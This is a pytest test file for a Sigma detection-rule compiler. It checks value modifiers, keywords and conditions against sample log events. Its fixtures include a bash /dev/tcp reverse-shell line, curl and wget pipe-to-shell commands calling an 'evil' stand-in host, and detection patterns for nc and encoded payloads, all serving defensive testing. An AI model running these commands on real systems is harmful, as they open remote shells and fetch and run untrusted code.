"""Every value modifier SigmaHQ uses, keywords, null and every condition form, on pySigma's
parsed rules: each case has events that must match and events that must not."""

from __future__ import annotations

import base64
from typing import Any

import pytest
from sigma.rule import SigmaRule

from nocsoc.detections.compiler import compile_rule, required_needles
from nocsoc.events import LogEvent


def rule(detection: str, logsource: str = "product: linux") -> Any:
    text = f"""
title: t
id: 5d3f4a0e-0000-4000-8000-000000000001
logsource:
    {logsource}
detection:
{detection}
level: low
"""
    return compile_rule(SigmaRule.from_yaml(text))


def ev(raw: str = "", **fields: Any) -> LogEvent:
    return LogEvent(raw or " ".join(f"{k}={v}" for k, v in fields.items()), dict(fields), time=1795568523.0)


CASES: list[tuple[str, list[dict[str, Any]], list[dict[str, Any]]]] = [
    (
        "    sel:\n        CommandLine: 'whoami'\n    condition: sel",
        [{"CommandLine": "WHOAMI"}],
        [{"CommandLine": "whoami /all"}, {}],
    ),
    (
        "    sel:\n        CommandLine|contains: '/dev/tcp/'\n    condition: sel",
        [{"CommandLine": "bash -i >& /DEV/TCP/1.2.3.4/4444"}],
        [{"CommandLine": "ls /dev"}],
    ),
    (
        "    sel:\n        Image|startswith:"
        "\n            - '/tmp/'\n            - '/dev/shm/'\n    condition: sel",
        [{"Image": "/dev/shm/x"}, {"Image": "/TMP/a"}],
        [{"Image": "/usr/tmp/a"}],
    ),
    (
        "    sel:\n        Image|endswith: '/nc'\n    condition: sel",
        [{"Image": "/usr/bin/nc"}],
        [{"Image": "/nc.sh"}],
    ),
    (
        "    sel:\n        CommandLine|contains|all:"
        "\n            - 'curl'\n            - '| sh'\n    condition: sel",
        [{"CommandLine": "curl http://x | sh"}],
        [{"CommandLine": "curl http://x"}],
    ),
    (
        "    sel:\n        CommandLine|re: '^(?:ba)?sh -c .*base64'\n    condition: sel",
        [{"CommandLine": "bash -c echo x|base64 -d"}],
        [{"CommandLine": "BASH -c base64"}, {"CommandLine": "zsh -c base64"}],
    ),
    (
        "    sel:\n        CommandLine|re|i: '^(?:ba)?sh -c .*base64'\n    condition: sel",
        [{"CommandLine": "BASH -c BASE64"}],
        [{"CommandLine": "zsh -c base64"}],
    ),
    (
        "    sel:\n        msg|re|m: '^second$'\n    condition: sel",
        [{"msg": "first\nsecond\nthird"}],
        [{"msg": "x second"}],
    ),
    ("    sel:\n        msg|re|s: 'a.b'\n    condition: sel", [{"msg": "a\nb"}], [{"msg": "ab"}]),
    (
        "    sel:\n        src_ip|cidr:"
        "\n            - '10.0.0.0/8'\n            - '2001:db8::/32'\n    condition: sel",
        [{"src_ip": "10.2.3.4"}, {"src_ip": "2001:db8::1"}],
        [{"src_ip": "11.0.0.1"}, {"src_ip": "bogus"}],
    ),
    (
        "    sel:\n        CommandLine|windash|contains: ' -enc '\n    condition: sel",
        [
            {"CommandLine": "powershell /enc AAA"},
            {"CommandLine": "powershell -enc AAA"},
            {"CommandLine": "powershell \u2013enc AAA"},
        ],
        [{"CommandLine": "powershell enc AAA"}],
    ),
    (
        "    sel:\n        CommandLine|base64offset|contains: 'http://'\n    condition: sel",
        [
            {"CommandLine": "echo " + base64.b64encode(b"xhttp://evil").decode()},
            {"CommandLine": base64.b64encode(b"http://evil").decode()},
            {"CommandLine": base64.b64encode(b"xxhttp://evil").decode()},
        ],
        [{"CommandLine": "http://evil"}],
    ),
    (
        "    sel:\n        payload|base64: 'secret'\n    condition: sel",
        [{"payload": base64.b64encode(b"secret").decode()}],
        [{"payload": "secret"}],
    ),
    (
        "    sel:\n        sc-status|gte: 500\n    condition: sel",
        [{"sc-status": 503}, {"sc-status": "500"}],
        [{"sc-status": 404}, {"sc-status": "x"}, {}],
    ),
    ("    sel:\n        sc-bytes|lt: 10\n    condition: sel", [{"sc-bytes": 9}], [{"sc-bytes": 10}]),
    ("    sel:\n        sc-bytes|lte: 10\n    condition: sel", [{"sc-bytes": 10}], [{"sc-bytes": 11}]),
    ("    sel:\n        sc-bytes|gt: 10\n    condition: sel", [{"sc-bytes": 11}], [{"sc-bytes": 10}]),
    ("    sel:\n        user|exists: true\n    condition: sel", [{"user": ""}], [{"x": 1}]),
    ("    sel:\n        user|exists: false\n    condition: sel", [{"x": 1}], [{"user": "a"}]),
    ("    sel:\n        user|cased: 'Root'\n    condition: sel", [{"user": "Root"}], [{"user": "root"}]),
    (
        "    sel:\n        user|fieldref: target\n    condition: sel",
        [{"user": "a", "target": "A"}],
        [{"user": "a", "target": "b"}, {"user": "a"}],
    ),
    (
        "    sel:\n        ParentImage: null\n    condition: sel",
        [{"Image": "x"}],
        [{"ParentImage": "/bin/sh"}],
    ),
    (
        "    sel:\n        user: 'adm?n'\n        host: '*dx*'\n    condition: sel",
        [{"user": "admin", "host": "core-dx1"}],
        [{"user": "adn", "host": "core-dx1"}, {"user": "admin", "host": "x"}],
    ),
    (
        "    sel:\n        dst_port: 23\n    condition: sel",
        [{"dst_port": 23}, {"dst_port": "23"}],
        [{"dst_port": 230}],
    ),
    (
        "    sel:\n        dst_port:\n            - 21\n            - 23\n"
        "            - 8080\n    condition: sel",
        [{"dst_port": 23}, {"dst_port": "8080"}, {"dst_port": 21.0}],
        [{"dst_port": 22}, {"dst_port": "ssh"}, {}],
    ),
    (
        "    a:\n        x: 1\n    b:\n        y: 2\n    c:\n        z: 3\n    condition: a and not (b or c)",
        [{"x": 1}],
        [{"x": 1, "y": 2}, {"x": 1, "z": 3}, {}],
    ),
    (
        "    sel_a:\n        x: 1\n    sel_b:\n        y: 2\n    condition: 1 of sel_*",
        [{"x": 1}, {"y": 2}],
        [{"z": 1}],
    ),
    (
        "    sel_a:\n        x: 1\n    sel_b:\n        y: 2\n    condition: all of sel_*",
        [{"x": 1, "y": 2}],
        [{"x": 1}],
    ),
    ("    a:\n        x: 1\n    b:\n        y: 2\n    condition: 1 of them", [{"y": 2}], [{"x": 2}]),
    (
        "    a:\n        x: 1\n    b:\n        y: 2\n    condition: all of them",
        [{"x": 1, "y": 2}],
        [{"y": 2}],
    ),
    ("    a:\n        - x: 1\n        - y: 2\n    condition: a", [{"y": 2}], [{"x": 2}]),
    (
        "    a:\n        x|contains|all:"
        "\n            - 'q'\n            - 'r'\n    f:\n        x|endswith: 'z'\n"
        "    condition: a and not f",
        [{"x": "qr"}],
        [{"x": "qrz"}, {"x": "q"}],
    ),
]


@pytest.mark.parametrize(("detection", "yes", "no"), CASES, ids=[c[0].split("\n")[1].strip() for c in CASES])
def test_value_modifiers_and_conditions(
    detection: str, yes: list[dict[str, Any]], no: list[dict[str, Any]]
) -> None:
    r = rule(detection)
    for fields in yes:
        assert r.match(ev(**fields)), fields
    for fields in no:
        assert not r.match(ev(**fields)), fields


def test_keywords_search_the_raw_line_case_insensitively_with_wildcards() -> None:
    r = rule(
        "    keywords:\n        - 'stack smashing detected'\n        - 'wget * - http* | sh'\n"
        "    condition: keywords"
    )
    assert r.match(ev("Nov 25 kernel: *** STACK SMASHING DETECTED ***: terminated"))
    assert r.match(ev("cron: wget -q - http://evil/x | sh"))
    assert not r.match(ev("cron: wget -q http://evil/x"))
    allk = rule(
        "    keywords:\n        '|all':\n            - ':179'\n            - 'IP-TCP-3-BADAUTH'\n"
        "    condition: keywords"
    )
    assert allk.match(ev("%IP-TCP-3-BADAUTH: Invalid MD5 digest from 10.0.0.1:179 to 10.0.0.2:1234"))
    assert not allk.match(ev("%IP-TCP-3-BADAUTH: Invalid MD5 digest from 10.0.0.1:22"))


def _found(e: LogEvent, f: str | None, n: str) -> bool:
    """Whether needle `n` of field `f` (None: the raw line) occurs in the event: a number's
    (NUMBER_NEEDLE) equals the value read as a number, any other is in its lowercase."""
    from nocsoc.detections.compiler import NUMBER_NEEDLE, _number, number_of_needle

    if f is not None and n.startswith(NUMBER_NEEDLE):
        return _number(e.fields.get(f)) == number_of_needle(n)
    return (e.raw_lower() if f is None else (e.lower(f) or "")).find(n) >= 0


def test_required_needles_never_exclude_a_match() -> None:
    """The engine's prefilter: every case's matching events contain one of the rule's needles,
    and one of its second gate's."""
    for detection, yes, _ in CASES:
        r = rule(detection)
        if not r.needles:
            continue
        for fields in yes:
            e = ev(**fields)
            for needles in (r.needles, r.needles2 or r.needles):
                assert any(_found(e, f, n) for f, n in needles), (detection, fields, needles)
    assert required_needles(None) is None
